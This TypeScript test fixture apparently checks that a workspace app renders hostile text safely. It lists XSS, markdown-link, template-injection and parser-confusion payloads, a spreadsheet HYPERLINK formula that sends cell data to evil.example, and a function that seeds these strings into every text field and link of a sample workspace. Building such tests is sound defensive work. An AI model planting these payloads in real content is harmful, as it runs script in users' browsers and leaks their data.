// Lines that are built to run, our own and those of the samples beside the project, and a workspace full of them.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { RawRow, WorkspaceSource } from '../../src/domain/interchange/workspace-source.ts'

const OWN = [
  '<script>alert(1); globalThis.__ran = 1</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><body onload='alert(1)'>",
  '<a href="javascript:alert(1)">press me</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>',
  '[click](javascript:alert(1)) ![x](x" onerror="alert(1))',
  'javascript:alert(1) //',
  ' JaVa\tScRiPt:alert(1) //',
  'vbscript:msgbox(1) //',
  'data:text/html,<script>alert(1)</script>',
  '${globalThis.__ran = 1} {{constructor.constructor("alert(1)")()}}',
  ']]><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>',
  '</title></textarea></style></script><script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?"&A1,"press") and more',
  '%%{init: {"securityLevel":"loose"}}%% click a "javascript:alert(1)"',
]

/** All lines; those of the samples only where they are. */
export function hostileLines(): readonly string[] {
  const folder = join(process.cwd(), '../shared/samples/nasty/text')
  const foreign = existsSync(folder)
    ? readdirSync(folder)
        .filter((name) => name.endsWith('.txt'))
        .flatMap((name) => readFileSync(join(folder, name), 'utf8').split('\n'))
        .filter((line) => line.trim() !== '')
    : []
  return [...OWN, ...foreign]
}

const KEPT = /^(?:id|order|place|hash|mediaType|type|baseline|criteriaAtStart)$|Ids?$/

/** The workspace with a hostile line wherever somebody's words stood; links lead to hostile addresses. */
export function hostileWorkspace(sample: WorkspaceSource, lines: readonly string[]): WorkspaceSource {
  let next = 0
  const line = () => lines[next++ % lines.length] ?? ''
  const hostile = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return !KEPT.test(key) && /\s|^[A-Z]/.test(value) ? line() : value
    if (Array.isArray(value)) return value.map((each) => hostile(each, key))
    if (typeof value !== 'object' || value === null) return value
    const fields = Object.entries(value).map(([name, each]) => [name, hostile(each, name)] as const)
    const isText = 'type' in value && value.type === 'text'
    const link = { marks: [{ type: 'link', attrs: { href: line() } }] }
    return { ...Object.fromEntries(fields), ...(isText ? link : {}) }
  }
  const rows = (all: readonly RawRow[]): RawRow[] => all.map((row) => hostile(row, '') as RawRow) // the same keys, other words
  return {
    ...sample,
    id: null,
    meta: { ...sample.meta, name: 'Words that want to run' },
    records: Object.fromEntries(Object.entries(sample.records).map(([type, all]) => [type, rows(all)])),
    people: sample.people ? rows(sample.people) : null,
    state: null,
  }
}
